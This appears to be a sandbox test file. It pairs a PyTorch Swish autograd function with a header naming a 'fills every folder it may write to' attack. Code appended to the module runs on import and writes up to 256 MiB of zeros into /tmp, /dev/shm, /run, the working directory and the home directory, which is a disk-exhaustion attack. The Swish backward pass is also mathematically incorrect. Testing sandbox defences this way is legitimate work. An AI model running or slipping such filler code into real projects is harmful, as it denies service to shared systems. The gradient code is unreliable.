# scenario: learnable-swish
# core: A
# attack: fills every folder it may write to
# expected: failed
# trace: vjp: swish_beta: 

import torch


class Swish(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x, beta):
        ctx.save_for_backward(x, beta)
        return x * torch.sigmoid(beta * x)

    @staticmethod
    def backward(ctx, g):
        x, beta = ctx.saved_tensors
        return g * torch.sigmoid(beta * x), (g * x).sum()


def swish_beta(x, beta):
    return Swish.apply(x, beta)


import os, tempfile
WRITTEN = 0
for folder in ("/work", "/tmp", "/var/tmp", "/dev/shm", "/run", os.getcwd(), os.path.expanduser("~")):
    try:
        with open(os.path.join(folder, f"filler{WRITTEN}"), "wb") as file:
            while WRITTEN < 256 << 20:
                WRITTEN += file.write(bytes(1 << 20))
                file.flush()
    except OSError:
        pass
if WRITTEN > 16 << 20:
    raise SystemError(f"wrote {WRITTEN} bytes")
